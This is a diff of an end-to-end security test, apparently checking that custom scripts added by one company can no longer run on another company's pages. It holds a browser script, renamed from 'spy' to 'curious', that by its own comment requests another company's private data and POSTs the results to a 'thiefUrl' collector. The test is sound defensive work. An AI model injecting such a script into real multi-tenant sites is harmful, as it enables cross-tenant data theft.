@@ -18,7 +18,7 @@ test.use({
 });
 
 /** Runs in the browser: repeatedly requests another company's private data and reports every answer. */
-function spy(thiefUrl: string, addresses: string[]) {
+function curious(thiefUrl: string, addresses: string[]) {
   const report = (what: string, value: unknown) =>
     void fetch(thiefUrl, {
       method: "POST",
@@ -55,10 +55,10 @@ test("from the second company on, scripts no longer run in the walls' own pages 
     const one = await Organiser.signIn(installation);
     const other = { email: "second@example.com", password: "another brand new one" };
     const secrets: string[] = [];
-    const spyScript = (addresses: string[]) => `(${spy})(${JSON.stringify(thief.url)}, ${JSON.stringify(addresses)})`;
+    const probe = (addresses: string[]) => `(${curious})(${JSON.stringify(thief.url)}, ${JSON.stringify(addresses)})`;
     const { id } = await one.call<{ id: string }>("POST", "/api/scripts/add-script", {
       script_name: "Curious",
-      script: spyScript([]),
+      script: probe([]),
       script_placement: "footer",
       is_global: "no",
     });
@@ -134,7 +134,7 @@ test("from the second company on, scripts no longer run in the walls' own pages 
 
     await one.call("PUT", `/api/scripts/update-script/${id}`, {
       script_name: "Curious",
-      script: spyScript(addresses),
+      script: probe(addresses),
       script_placement: "footer",
       is_global: "no",
     });
